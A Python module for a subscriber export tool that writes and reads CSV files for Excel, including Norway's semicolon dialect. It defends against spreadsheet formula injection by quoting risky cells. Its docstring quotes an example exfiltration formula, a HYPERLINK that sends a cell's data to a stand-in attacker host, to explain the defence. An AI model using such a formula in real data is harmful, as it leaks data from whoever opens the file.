"""CSV that a spreadsheet opens as data: no cell it would run as a formula.

Excel, LibreOffice and Google Sheets take a cell whose text starts with `=`, `+`, `-` or `@`
(or a tab or a carriage return before one) for a formula: a name such as
`=HYPERLINK("http://evil.example/?d="&A3,"Klikk")`, sent through the public sign-up form, would
run on the admin's machine when the export is opened. As OWASP recommends ("CSV Injection"),
such a cell gets a leading single quote, which makes it text.

`cell` adds the quote on the way out and `value` takes it off on the way in, so that an export
read back by `subscribers import` gives the names and addresses that were stored. A value that
already starts with single quotes before such a character gets one more, so that the two are
exact inverses and nothing stored is ever changed by a round trip.

Excel in Norway reads and writes its own dialect, since `,` is the decimal mark there: `;`
between cells, and text in windows-1252 ("CSV (semikolondelt)") or UTF-8 with a byte order mark
("CSV UTF-8"). `decode` and `delimiter` read all of these; `EXCEL` writes the one Excel opens as
it is, with numbers in the report's decimal sign.
"""

from __future__ import annotations

import codecs
import csv
import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any, TextIO

from babel.numbers import format_decimal

from .errors import UsageError

FORMULA = re.compile(r"'*[=+\-@\t\r]")
"""A text that starts like a formula, after any single quotes: what gets one more quote."""


@dataclass(frozen=True)
class Dialect:
    """How a CSV file is written: for other programs (`PLAIN`), or for a person who opens it in
    Excel (`excel`)."""

    delimiter: str = ","
    encoding: str = "utf-8"
    """"utf-8-sig" puts a byte order mark first, which is how Excel knows the file is UTF-8."""
    language: str | None = None
    """Numbers that are not whole are written with this language's decimal sign ("3,7" in
    nb and nn); None writes Python's "3.7"."""

    def encode(self, text: str) -> bytes:
        """`text` as the bytes of the file (with the byte order mark when there is one)."""
        return text.encode(self.encoding)


PLAIN = Dialect()
"""RFC 4180: commas, UTF-8 without a byte order mark, a point in numbers."""


def excel(language: str) -> Dialect:
    """What Excel set up for Norway opens as it is, with a double click: `;`, UTF-8 with a
    byte order mark, and numbers in `language`'s decimal sign."""
    return Dialect(delimiter=";", encoding="utf-8-sig", language=language)


def cell(value: object, dialect: Dialect = PLAIN) -> object:
    """`value` as a CSV cell a spreadsheet shows as it is; only text can need the quote."""
    if isinstance(value, str) and FORMULA.match(value):
        return "'" + value
    if isinstance(value, float) and dialect.language is not None:
        # No grouping: Excel reads "1 234,5" with a no-break space as text, not a number.
        return format_decimal(value, format="0.###", locale=dialect.language)
    return value


def value(text: str) -> str:
    """The value a cell written by `cell` stands for: its quote taken off again."""
    return text[1:] if text.startswith("'") and FORMULA.match(text) else text


class Writer:
    """`csv.writer` whose every cell goes through `cell`, with CRLF line ends (RFC 4180).

    The line end is what makes the csv module quote a cell holding a carriage return or a
    newline: with "\n" alone, a bare CR inside a cell went out unquoted, and a spreadsheet
    began a new row there, whose first cell could be a formula."""

    def __init__(self, out: TextIO, dialect: Dialect = PLAIN, **options: Any) -> None:
        self.dialect = dialect
        self.writer = csv.writer(out, lineterminator="\r\n", delimiter=dialect.delimiter, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self.writer.writerow([cell(v, self.dialect) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


# -- reading what spreadsheets write -------------------------------------------------------------

WINDOWS_1252 = "windows-1252"


def decode(data: bytes, source: str) -> tuple[str, str]:
    """The text of a CSV file and the encoding it was read in: UTF-8 (with or without a byte
    order mark), UTF-16 with one (Excel's "Unicode text"), else windows-1252, which is what
    Excel in Norway saves as "CSV (semikolondelt)". A file that is none of these is a
    UsageError naming the line and what to do."""
    for bom, encoding in (
        (codecs.BOM_UTF8, "utf-8-sig"),
        (codecs.BOM_UTF16_LE, "utf-16"),
        (codecs.BOM_UTF16_BE, "utf-16"),
    ):
        if data.startswith(bom):
            return _decode(data, encoding, source), encoding
    try:
        return data.decode("utf-8"), "utf-8"
    except UnicodeDecodeError:
        # Not UTF-8: every byte of such a file that is not ASCII is a letter of windows-1252.
        return _decode(data, WINDOWS_1252, source), WINDOWS_1252


def _decode(data: bytes, encoding: str, source: str) -> str:
    try:
        return data.decode(encoding)
    except UnicodeDecodeError as e:
        line = data[: e.start].count(b"\n") + 1
        raise UsageError(
            f"{source}:{line}: byte 0x{data[e.start]:02x} is not text in {encoding}; save the "
            'file again as "CSV UTF-8" (in Excel: Lagre som, CSV UTF-8) and run again'
        ) from e


def first_line(text: str) -> str:
    """The header line of `text`, whatever its line ends (a Mac's spreadsheet may end lines
    with a bare CR)."""
    return re.split(r"\r\n|\r|\n", text, maxsplit=1)[0]


def delimiter(header: str) -> str:
    """The delimiter a CSV file uses, guessed from its header line: `,`, `;` or a tab, whichever
    appears most often outside quotes; `,` when there is none (a file of one column)."""
    # Only the delimiter is guessed. The rest is the standard dialect: csv.Sniffer, seeing a
    # header without quotes, would turn off doubled quotes and garble `Bjørn "Bass" Berg`.
    bare = re.sub(r'"[^"]*"', "", header)
    return max(",;\t", key=bare.count) if any(c in bare for c in ",;\t") else ","
